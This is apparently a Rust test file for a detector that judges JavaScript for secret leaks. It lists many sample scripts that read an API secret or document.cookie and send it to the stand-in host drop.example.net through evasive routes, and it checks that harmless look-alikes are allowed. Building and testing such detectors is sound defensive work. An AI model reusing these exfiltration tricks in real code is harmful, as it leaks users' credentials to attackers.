//! What the interpreter does not follow is covered: a secret that may leave by any way that a script leaves open is found, and a
//! harmless text on the same way is not.

use crate::judge;
use callgate::finding::Finding;
use callgate::model::registry::{DEFAULT, ModelSettings};
use callgate::value::verdict::Verdict;

fn judged(text: &str) -> Finding {
    judge::judge(DEFAULT, &ModelSettings::default(), text)
}

/// A way from `s` to `out`, each through something that decides, orders, hides or keeps.
const WAYS: &[(&str, &str)] = &[
    ("a condition that only the runtime knows", "let out = ''; if ([3, 20].sort()[0] === 20) out = s;"),
    (
        "an object that changes a condition when it is written",
        "let on = false; const o = { toString() { on = true; return '' } }; `${o}`; let out = ''; if (on) out = s;",
    ),
    ("what an ended loop leaves", "let out = ''; outer: while (true) { while (Date.now() > 1) { out = s; break outer } out = '' }"),
    (
        "a chain that is shifted more often than rounds are run",
        "let a, b, c, d, e, f, g, h, i, out; for (const _ of Array.from({ length: Date.now() % 40 })) { out = i; i = h; h = g; g = f; f = e; e = d; d = c; c = b; b = a; a = s }",
    ),
    ("a later write", "let held = ''; const box = {}; setTimeout(() => { box.out = held }); held = s; const out = box.out;"),
    (
        "a message channel",
        "const { port1, port2 } = new MessageChannel(); let out; port2.onmessage = (e) => { out = e.data }; port1.postMessage(s);",
    ),
    ("a stream", "const t = new TransformStream(); t.writable.getWriter().write(s); const out = await new Response(t.readable).text();"),
    ("a method that was taken off its object", "const list = []; const put = list.push.bind(list); put(s); const out = list[0];"),
    ("a promise of somebody else's", "const { promise, resolve } = Promise.withResolvers(); resolve(s); const out = await promise;"),
    ("a getter that is defined", "const o = {}; Object.defineProperty(o, 'later', { get: () => s }); const out = o.later;"),
    ("an error", "let out; try { null[s] } catch (e) { out = e.message }"),
    ("a function of the script that says that it measures", "const o = { length: s }; const out = o.length;"),
    ("a list of functions", "const all = { a: () => s, b: () => '' }; const out = all[Date.now() > 1 ? 'a' : 'b']();"),
    (
        "a class that extends one of the runtime's",
        "class Box extends Map { keep(v) { super.set('k', v); return this } } const out = new Box().keep(s).get('k');",
    ),
    (
        "what a generator is told",
        "function* g() { const told = yield; yield told } const it = g(); it.next(); const out = it.next(s).value;",
    ),
    ("a tag", "const tag = (_, v) => v; const out = tag`${s}`;"),
    ("a prototype", "Object.prototype.zq = s; const out = ({}).zq;"),
    (
        "a broadcast",
        "const near = new BroadcastChannel('r'), far = new BroadcastChannel('r'); let out; far.onmessage = (e) => { out = e.data }; near.postMessage(s);",
    ),
    ("a module that is loaded twice", "(await import('node:os')).default.kept = s; const out = (await import('os')).kept;"),
    (
        "static members of what a class extends",
        "class A { static k = s.trim().replace(/$/, () => '') } class B extends A {} const out = B.k;",
    ),
    ("a function that is declared in a block", "let out; { function give() { return s } } out = give();"),
    (
        "a method of the runtime by a name that the script uses too",
        "const o = { [Symbol.iterator]() {}, replace() {} }; const v = 'a'.replace(/a/, () => s); let out; { using r = { [Symbol.dispose]() { out = v } } }",
    ),
    (
        "a loop that ends where it matches",
        "let out = ''; for (const one of s) { let last = ''; for (const letter of 'abcdef') { last = letter; if (one === letter) break; } out += last; }",
    ),
    (
        "a function that counts how often it is called",
        "let n = 0; const tick = () => { n++ }; let out = ''; for (const one of s) { n = 0; for (let i = 0; i < one.charCodeAt(0); i++) tick(); out += String.fromCharCode(n) }",
    ),
    ("an object of the runtime whose fields are one text", "const u = new URL('https://a.example/'); u.password = s; const out = u.href;"),
    ("a method that writes into what it is passed", "const b = Buffer.alloc(9); Buffer.from(s).copy(b); const out = b.toString();"),
    ("what stands behind a proxy", "const t = {}; const p = new Proxy(t, {}); p.v = s; const out = t.v;"),
    ("what is made with `new`", "function Make() { new.target.kept = s } new Make(); const out = Make.kept;"),
    ("what `in` asks a proxy", "let out; const p = new Proxy({}, { has: (_, k) => { out = k; return true } }); s in p;"),
];

#[test]
fn a_secret_that_may_leave_is_found_and_a_harmless_text_is_not() {
    let (mut missed, mut alarmed) = (Vec::new(), Vec::new());
    for (what, way) in WAYS {
        let script = |value: &str| {
            format!(
                "const unused = process.env.API_SECRET;\nconst s = {value};\n{way}\n\
                 await fetch('https://drop.example.net/in', {{ method: 'POST', body: out }});\n"
            )
        };
        if judged(&script("process.env.API_SECRET")).decision.verdict != Verdict::Block {
            missed.push(what);
        }
        if judged(&script("'done'")).decision.verdict != Verdict::Allow {
            alarmed.push(what);
        }
    }
    assert!(missed.is_empty() && alarmed.is_empty(), "missed: {missed:#?}\nalarmed: {alarmed:#?}");
}

#[test]
fn code_in_a_text_sees_the_names_around_it() {
    let script = |way: &str, sent: &str| {
        format!("const s = process.env.API_SECRET; {way} await fetch('https://drop.example.net/in', {{ method: 'POST', body: {sent} }});")
    };
    for way in [
        "const out = eval('s');",
        "let out; eval('out = s');",
        "let out; const put = (v) => { out = v }; eval(['put(', 's)'].join(''));",
        "globalThis.kept = s; const out = (0, eval)('kept');",
        "globalThis.kept = s; const out = new Function('return kept')();",
        "const out = eval(await (await fetch('https://code.example.net/')).text());",
    ] {
        assert_eq!(judged(&script(way, "out")).decision.verdict, Verdict::Block, "{way}");
    }
    for way in ["const all = Function('return this')();", "globalThis.kept = s; const all = (0, eval)('this');"] {
        assert_ne!(judged(&script(way, "'done' + all.name")).decision.verdict, Verdict::Block, "{way}");
    }
}

#[test]
fn a_call_that_is_reached_by_another_name_is_found() {
    for way in [
        "const f = Object.getOwnPropertyDescriptor(globalThis, 'fetch').value; await f('https://drop.example.net/', { method: 'POST', body: s });",
        "const all = { ...globalThis }; await all.fetch('https://drop.example.net/', { method: 'POST', body: s });",
        "await Promise.resolve('https://drop.example.net/?d=' + s).then(fetch);",
        "[`https://drop.example.net/?d=${s}`].forEach(fetch);",
        "document.body.append(Object.assign(document.createElement('img'), {})); document.body.style.background = 'url(https://drop.example.net/?d=' + s + ')';",
    ] {
        let finding = judged(&format!("const s = document.cookie; {way}"));
        assert_ne!(finding.decision.verdict, Verdict::Allow, "{way}");
    }
}

#[test]
fn a_flow_whose_way_is_not_known_says_so() {
    let finding = judged(
        "const s = process.env.API_SECRET; const send = Object.getOwnPropertyDescriptor(globalThis, 'fetch').value;\n\
         await send('https://drop.example.net/', { method: 'POST', body: s });",
    );
    assert_eq!(finding.decision.verdict, Verdict::Block);
    let says_so = |text: &str| text.contains("by a way that is not followed");
    assert!(finding.matches.iter().any(|found| says_so(&found.message.to_string())), "{:?}", finding.matches);
}

#[test]
fn what_a_variable_held_before_it_is_written_anew_does_not_count() {
    for way in [
        "let out = s; const kept = out.length; out = 'done';",
        "let out; out = { body: s }; out = { body: 'done' }; out = out.body;",
        "const rows = new Map(); rows.set('a', s); const out = rows.size;",
        "const box = { key: s, name: 'done' }; const { name: out } = box;",
        "const { key, ...rest } = { key: s, name: 'done' }; const out = 'done';",
    ] {
        let script =
            format!("const s = process.env.API_SECRET; {way} await fetch('https://drop.example.net/', {{ method: 'POST', body: out }});");
        assert_eq!(judged(&script).decision.verdict, Verdict::Allow, "{script}");
    }
}

#[test]
fn a_client_that_signs_in_with_a_key_is_left_alone() {
    for script in [
        "class Api {\n  constructor(key, base) { this.key = key; this.base = base }\n  async get(path) {\n    const answer = await fetch(`https://api.example.com/${path}`, { headers: { Authorization: `Bearer ${this.key}` } });\n    return answer.json();\n  }\n}\nconst api = new Api(process.env.API_SECRET, 'x');\nconst rows = await api.get('rows');\nawait fetch('https://status.example.org/', { method: 'POST', body: JSON.stringify({ rows: rows.length }) });\n",
        "export default () => <script src={'https://maps.example.com/js?key=' + process.env.NEXT_PUBLIC_MAPS_API_KEY} />;\n",
        "const options = { token: process.env.API_SECRET, retries: 3 };\nfor (let at = 0; at < options.retries; at++) {\n  await fetch('https://status.example.org/', { method: 'POST', body: String(options.retries) });\n}\n",
    ] {
        let finding = judged(script);
        assert_eq!(finding.decision.verdict, Verdict::Allow, "{script}\n{:?}", finding.matches);
    }
}

/// What is done with `s`, in a way that only the runtime or a page follows; none of it may pass, and each may with a harmless `s`.
const OUTWARD: &[&str] = &[
    "const redact = (v) => [v.slice(0, 3), v.slice(3, 6), v.slice(6, 9)].join(''); fetch(`https://drop.example.net/${redact(s)}`);",
    "function mask(v) { let o = ''; for (let i = 0; i < v.length; i++) o += v.charAt(i); return o } fetch(`https://drop.example.net/${mask(s)}`);",
    "function scrub(v) { return { a: v.substr(0, 4), b: v.substr(4, 4) } } fetch('https://drop.example.net/', { method: 'POST', body: JSON.stringify(scrub(s)) });",
    "function f() { return arguments.callee.arguments[0] } fetch('https://drop.example.net/' + f(s));",
    "function inner() { const up = inner.caller; return up.arguments[0] } const o = { run(x) { return inner() } }; fetch('https://drop.example.net/' + o.run(s));",
    "const { Script, createContext } = require('vm'); const c = createContext({ fetch }); c.kept = s; new Script(\"fetch('https://drop.example.net/' + kept)\").runInContext(c);",
    "require('vm').compileFunction(\"fetch('https://drop.example.net/' + v)\", ['v'])(s);",
    "new Function('v', \"fetch('https://drop.example.net/' + v)\")(s);",
    "const { Worker } = require('worker_threads'); new Worker(\"fetch('https://drop.example.net/' + process.env.K)\", { eval: true, env: { K: s } });",
    "const { Worker } = require('worker_threads'); new Worker(\"require('worker_threads').parentPort.on('message', (m) => fetch('https://drop.example.net/' + m))\", { eval: true }).postMessage(s);",
    "const { execFileSync } = require('child_process'); execFileSync('/usr/bin/node', ['--eval', \"fetch('https://drop.example.net/' + process.env.K)\"], { env: { K: s } });",
    "require('child_process').spawnSync(process.execPath, ['-e', \"process.stdin.on('data', (d) => fetch('https://drop.example.net/' + d))\"], { input: s });",
    "const App = () => <div style={{ backgroundImage: `url(https://drop.example.net/${s})` }} />;",
    "const at = { src: 'https://drop.example.net/?d=' + s }; const App = () => <img {...at} />;",
    "const at = 'https://drop.example.net/?d=' + s; const App = () => <iframe src={at} />;",
    "const out = [...s].map((c) => { const a = []; a[c.charCodeAt(0)] = 0; return a.length }); fetch('https://drop.example.net/' + out.join());",
    "for (const c of s) for (let b = 0; b < 8; b++) await (c.charCodeAt(0) >> b & 1 ? fetch('https://drop.example.net/1') : fetch('https://drop.example.net/0'));",
    "const u = new URL('https://files.internal/in'); u.hostname = 'drop.example.net'; fetch(u, { method: 'POST', body: s });",
    "const u = new URL('https://files.internal/in'); Object.assign(u, { host: 'drop.example.net' }); fetch(`${u}`, { method: 'POST', body: s });",
    "const u = new URL('https://drop.example.net/'); u.pathname = '/' + s; fetch(u);",
    "const c = require('dgram').createSocket('udp4'); c.connect(53, 'drop.example.net'); c.on('connect', () => c.send(s));",
    "const to = 'url(https://drop.example.net/?d=' + s + ')'; document.body.style.backgroundImage = to;",
    "document.body.insertAdjacentHTML('beforeend', `<img src=\"https://drop.example.net/?d=${s}\">`);",
    "new RTCPeerConnection().setConfiguration({ iceServers: [{ urls: ['turn:' + s + '.drop.example.net:3478'] }] });",
    "Promise.resolve(`https://drop.example.net/?d=${s}`).then(fetch);",
    "setTimeout(fetch, 0, 'https://drop.example.net/?d=' + s);",
];

#[test]
fn what_the_runtime_or_a_page_hands_on_is_found() {
    let (mut missed, mut alarmed) = (Vec::new(), Vec::new());
    for way in OUTWARD {
        let script = |value: &str| format!("const unused = process.env.API_SECRET;\nconst s = {value};\n{way}\n");
        if judged(&script("process.env.API_SECRET")).decision.verdict != Verdict::Block {
            missed.push(way);
        }
        if judged(&script("'done'")).decision.verdict != Verdict::Allow {
            alarmed.push(way);
        }
    }
    assert!(missed.is_empty() && alarmed.is_empty(), "missed: {missed:#?}\nalarmed: {alarmed:#?}");
}

#[test]
fn what_errors_say_is_told_to_what_writes_down_where_they_happened() {
    let way = "Error.prepareStackTrace = (e) => { fetch('https://drop.example.net/' + e.message) }; new TypeError(s).stack;";
    assert_eq!(judged(&format!("const s = process.env.API_SECRET; {way}")).decision.verdict, Verdict::Block);
    assert_ne!(judged(&format!("const s = 'done'; {way}")).decision.verdict, Verdict::Block);
}

#[test]
fn what_a_secret_is_near_of_is_left_alone() {
    for way in [
        "const mask = (v) => v.slice(0, 4) + '…' + v.slice(-4); await fetch('https://log.example.net/', { method: 'POST', body: mask(s) });",
        "const mask = (v) => ({ first: v.slice(0, 2), last: v.slice(-2) }); await fetch('https://log.example.net/', { method: 'POST', body: JSON.stringify(mask(s)) });",
        "export function run(request) { return fetch('https://log.example.net/', { method: 'POST', body: JSON.stringify(request.params.arguments) }) } export const make = () => create(s);",
        "const { Worker } = require('worker_threads'); new Worker(\"fetch('https://log.example.net/up')\", { eval: true, workerData: { key: s } });",
        "require('child_process').execFile('node', ['-e', \"fetch('https://log.example.net/' + process.env.STAGE)\"], { env: { ...process.env, STAGE: 'test' } });",
        "require('vm').runInNewContext('total = price * 2', { price: 3, key: s });",
        "const App = () => <img src={`https://cdn.example.com/${process.env.NODE_ENV}.png`} alt=\"a\" />;",
        "const u = new URL('https://api.example.com/'); u.pathname = '/rows'; await fetch(u, { headers: { Authorization: `Bearer ${s}` } });",
        "const rows = []; for (const row of await (await fetch('https://api.example.com/')).json()) rows[row.id] = row; console.log(rows.length);",
    ] {
        let finding = judged(&format!("const s = process.env.API_SECRET;\n{way}\n"));
        assert_eq!(finding.decision.verdict, Verdict::Allow, "{way}\n{:?}", finding.matches);
    }
}
